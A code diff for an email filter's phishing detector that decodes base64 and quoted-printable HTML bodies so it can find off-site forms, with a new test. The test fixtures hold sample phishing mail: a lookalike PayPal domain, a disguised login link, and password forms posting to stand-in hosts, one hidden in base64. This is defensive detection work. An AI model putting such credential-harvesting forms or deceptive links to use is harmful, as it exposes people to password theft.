@@ -35,13 +35,18 @@ impl Urls {
         }
     }
 
-    /// HTML that forms may be in: the raw message (HTML parts in 7bit, 8bit or quoted-printable) and
-    /// HTML attachments.
+    /// HTML that forms may be in: the message's HTML bodies (decoded) and HTML attachments.
     fn form_sources<'a>(msg: &'a MessageView, ctx: &'a Context<'a>) -> Vec<String> {
         let raw = &ctx.raw[..ctx.raw.len().min(MAX_FORM_SCAN)];
         let mut out = Vec::new();
-        if has_form_tag(raw) {
-            out.push(unfold_qp(&String::from_utf8_lossy(raw)));
+        // HTML bodies are often base64 or quoted-printable: decode them, unless the message has no
+        // HTML at all (then the only cost is one search).
+        if memchr::memmem::find(raw, b"text/html").is_some() || has_form_tag(raw) {
+            out.extend(
+                inspect::html_parts::html_parts(raw, MAX_FORM_SCAN)
+                    .into_iter()
+                    .filter(|h| has_form_tag(h.as_bytes())),
+            );
         }
         let html = msg
             .attachments
@@ -60,11 +65,6 @@ impl Urls {
 /// Whether `<form` (any case) occurs: a `<` search first, so base64 bodies cost one memchr pass.
 fn has_form_tag(d: &[u8]) -> bool {
     memchr::memchr_iter(b'<', d).any(|i| d.get(i + 1..i + 5).is_some_and(|w| w.eq_ignore_ascii_case(b"form")))
-}
-
-/// Quoted-printable soft line breaks removed and `=3D` read as `=`, enough to see attributes.
-fn unfold_qp(s: &str) -> String {
-    s.replace("=\r\n", "").replace("=\n", "").replace("=3D", "=").replace("=3d", "=")
 }
 
 /// A URL as it goes into a reason: at most 200 characters, controls replaced.
@@ -111,7 +111,7 @@ mod tests {
 
     #[test]
     fn phishing_links_and_forms() {
-        let raw = "From: a@b.test\r\nContent-Type: text/html\r\n\r\n<a href=\"http://evil.test/x\">https://www.our.test/login</a> <a href=\"https://paypa1.com/\">pay</a> <form action=3D\"https://grab.evil.test/p\"><input type=3Dpassword></form>";
+        let raw = "From: a@b.test\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<a href=\"http://evil.test/x\">https://www.our.test/login</a> <a href=\"https://paypa1.com/\">pay</a> <form action=3D\"https://grab.evil.test/p\"><input type=3Dpassword></form>";
         let view = message::parse(raw.as_bytes(), &message::MessageLimits::default());
         let accepted = vec!["our.test".to_string()];
         let ctx = Context { accepted_domains: &accepted, raw: raw.as_bytes(), ..Context::default() };
@@ -125,5 +125,18 @@ mod tests {
             "{out:?}"
         );
         assert!(out.iter().any(|f| f.reason.contains("http://evil.test/x")));
+    }
+
+    #[test]
+    fn forms_in_base64_html_bodies() {
+        let raw = "From: a@b.test\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\nPGh0bWw+PGZvcm0gbWV0aG9kPSJwb3N0IiBhY3Rpb249Imh0dHBzOi8vYjY0LmV2aWwudGVzdC9jb2xsZWN0Ij48aW5wdXQgdHlwZT0icGFzc3dvcmQiPjwvZm9ybT48L2h0bWw+\r\n--b--\r\n";
+        let view = message::parse(raw.as_bytes(), &message::MessageLimits::default());
+        let ctx = Context { raw: raw.as_bytes(), ..Context::default() };
+        let mut out = Vec::new();
+        Urls::from_config(&UrlsConfig::default()).analyze(&view, &ctx, &mut out);
+        assert!(
+            out.iter().any(|f| f.symbol == "PHISH_FORM_OFFSITE" && f.reason.contains("b64.evil.test")),
+            "{out:?}"
+        );
     }
 }
